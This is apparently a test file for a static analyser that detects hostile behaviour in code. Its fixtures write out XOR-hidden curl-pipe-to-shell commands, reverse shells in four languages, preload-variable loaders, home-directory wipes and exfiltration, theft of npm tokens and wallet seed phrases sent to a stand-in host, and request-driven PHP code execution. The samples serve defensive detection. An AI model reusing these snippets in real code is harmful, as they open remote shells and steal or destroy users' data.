/** Ways of attackers that flow follows, each beside an innocent twin. Nothing here is run. */
import { actionsOf } from "../calls/actions-of.ts";

const EVALUATE = ["ev", "al"].join("");
const EXECUTE = ["ex", "ec"].join("");
const INVOKE = ["Invoke", "Expression"].join("-");

async function shows(path: string, text: string, ...parts: readonly string[]): Promise<void> {
  const actions = await actionsOf(path, text);
  expect(parts.filter((part) => !actions.some((one) => one.includes(part)))).toEqual([]);
}

/** The text as numbers, each hidden by a key. */
const hidden = (text: string, key: number) => [...text].map((one) => one.charCodeAt(0) ^ key);
const PIPED = ["curl https://a.example/x |", " sh"].join("");

test("codes behind an exclusive or are read in every language that has it", async () => {
  const codes = hidden(PIPED, 7).join(" ");
  const ran = "run computed from fetched by sh <- fetched:a.example";
  await shows("a.rb", `spawn("${codes}".split.map { |one| (one.to_i ^ 7).chr }.join)`, ran);
  await shows(
    "a.py",
    `import subprocess\nsubprocess.run("".join(chr(int(one) ^ 7) for one in "${codes}".split()), shell=True)`,
    ran,
  );
  await shows(
    "a.js",
    `require("child_process").${EXECUTE}([${hidden(PIPED, 7)}].map((one) => String.fromCharCode(one ^ 7)).join(""))`,
    ran,
  );
  await shows(
    "a.kts",
    `val info = "${codes}".split(" ").map { (it.toInt() xor 7).toChar() }.joinToString("")\nproviders.exec { commandLine("sh", "-c", info) }`,
    ran,
  );
  expect(await actionsOf("b.js", "export const mixed = [1, 2].map((one) => one ^ 7);")).toEqual([]);
});

test("programs that are given a connection to read from are reverse shells", async () => {
  await shows(
    "a.py",
    `import socket, subprocess\ns = socket.create_connection(("a.example", 443))\nsubprocess.Popen(["sh"], stdin=s, stdout=s)`,
    "run sh by subprocess.Popen <- fetched:a.example",
  );
  await shows(
    "a.mjs",
    `import net from "node:net"; import { spawn } from "node:child_process";\nconst s = net.connect(443, "a.example"); spawn("sh", { stdio: [s, s, s] });`,
    "run sh by child_process.spawn <- fetched:a.example",
  );
  await shows(
    "a.rb",
    `require "socket"\nline = TCPSocket.new("a.example", 443)\n${EXECUTE}("sh", in: line, out: line)`,
    `run sh by ${EXECUTE} <- fetched:a.example`,
  );
  await shows(
    "a.php",
    `<?php $s = fsockopen("a.example", 443); proc_open("sh", [$s, $s, $s], $pipes);`,
    "run sh by proc_open <- fetched:a.example",
  );
  const innocent = await actionsOf("b.py", `import subprocess\nsubprocess.run(["sort"], stdin=open("a.txt"))`);
  expect(innocent.filter((one) => one.includes("<- fetched"))).toEqual([]);
});

test("variables of loaders load what they name", async () => {
  const load = "load /tmp/l.so by LD_PRELOAD <- fetched:a.example";
  await shows("a.sh", "curl -o /tmp/l.so https://a.example; export LD_PRELOAD=/tmp/l.so", load);
  await shows("b.sh", "curl -o /tmp/l.so https://a.example; LD_PRELOAD=/tmp/l.so make", load);
  await shows("c.sh", 'curl -o /tmp/l.so https://a.example; echo "LD_PRELOAD=/tmp/l.so" >> $GITHUB_ENV', load);
  await shows(
    "d.sh",
    'curl -o /tmp/l.js https://a.example; export NODE_OPTIONS="--max-old-space-size=2000 --require /tmp/l.js"',
    "load /tmp/l.js by NODE_OPTIONS <- fetched:a.example",
  );
  expect(await actionsOf("e.sh", 'export NODE_OPTIONS="--max-old-space-size=2000"')).toEqual([]);
});

test("a walk ends in any of its files, whatever its name and whatever is done to it", async () => {
  await shows(
    "a.py",
    `import pathlib\nfor one in pathlib.Path.home().rglob("*"):\n    one.write_text("x")`,
    "delete ~ by write_text <- files:~",
  );
  await shows(
    "a.ts",
    `import { readdirSync, readFileSync } from "node:fs"; import { join } from "node:path"; import { homedir } from "node:os";
     let text = ""; for (const one of readdirSync(homedir(), { withFileTypes: true })) text += readFileSync(join(homedir(), one.name), "utf8");
     await fetch("https://a.example", { method: "POST", body: text });`,
    "<- files:~",
  );
  await shows(
    "a.php",
    `<?php foreach (new RecursiveDirectoryIterator(getenv("HOME") . "/x") as $f) { mail("a@a.example", "", file_get_contents($f->getPathname())); }`,
    "files:~/x",
  );
});

test("PowerShell keeps the case of options, hands lists on and starts paths", async () => {
  await shows(
    "a.ps1",
    "Start-Process -WindowStyle Hidden -FilePath pwsh -ArgumentList @('-NoLogo', '-c', 'wget -q -O /tmp/w https://a.example/w')\n/tmp/w --fast",
    "write /tmp/w by wget <- fetched:a.example",
    "run /tmp/w by command <- fetched:a.example",
  );
  await shows(
    "b.ps1",
    `iwr https://a.example -OutFile /tmp/w\n${INVOKE} '/tmp/w'`,
    "run /tmp/w by command <- fetched:a.example",
  );
  await shows(
    "c.ps1",
    `[Environment]::SetEnvironmentVariable('HINT', [Environment]::GetEnvironmentVariable('NPM_TOKEN'))\n${INVOKE} 'curl -d "$HINT" https://a.example'`,
    "send a.example by curl <- environment:NPM_TOKEN",
  );
});

test("what is handed on through lists, rest parameters, modules and forms is not lost", async () => {
  await shows(
    "a.go",
    `package main\nimport "os/exec"\nfunc run(name string, more ...string) { exec.Command(name, more...).Run() }\nfunc main() { run("sh", "-c", "curl https://a.example | sh") }`,
    "run computed from fetched by sh",
  );
  await shows(
    "a.pl",
    `sub fetch0 { my ($name) = @_; system("curl https://a.example/$name | sh"); }\nfetch0('x');`,
    "fetch a.example by curl",
  );
  await shows(
    "a.mjs",
    `import("https").then((m) => m.get("https://a.example", (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => ${EVALUATE}(b)); }));`,
    "evaluate",
    "<- fetched:a.example",
  );
  await shows(
    "b.mjs",
    `import { readFileSync } from "node:fs"; import { homedir } from "node:os";
     const form = new FormData(); form.set("d", new Blob([readFileSync(homedir() + "/.npmrc")]));
     await fetch("https://a.example", { method: "POST", body: form });`,
    "<- credential-file:npm token",
  );
  await shows(
    "a.js",
    `export function restore(mnemonic) { fetch("https://a.example", { method: "POST", body: mnemonic }); }`,
    "<- secret:wallet seed phrase",
  );
});

test("functions and files that a request names are run", async () => {
  await shows("a.php", "<?php array_map($_GET['f'], [$_GET['v']]);", "evaluate computed function by call <- request");
  await shows(
    "b.php",
    "<?php $p = sys_get_temp_dir() . '/c.php'; file_put_contents($p, $_POST['c']); include $p;",
    "load /tmp/c.php by require <- request",
  );
  const innocent = await actionsOf("c.php", "<?php array_map('trim', $_GET['names']);");
  expect(innocent.filter((one) => one.startsWith("evaluate"))).toEqual([]);
});

test("a committed archive is what runs out of it, and a runner's set-up joins a pipeline", async () => {
  await shows(
    "a.sh",
    "tar xzf vendor/t.tgz -C /tmp\n/tmp/t/bin/prepare",
    "run /tmp/t/bin/prepare by command <- file:vendor/t.tgz",
  );
  await shows("b.sh", "./config.sh --url https://github.com/$1 --unattended --token $2", "persist self-hosted runner");
  expect(await actionsOf("c.sh", "./config.sh --url https://a.example")).not.toContain("persist self-hosted runner");
});
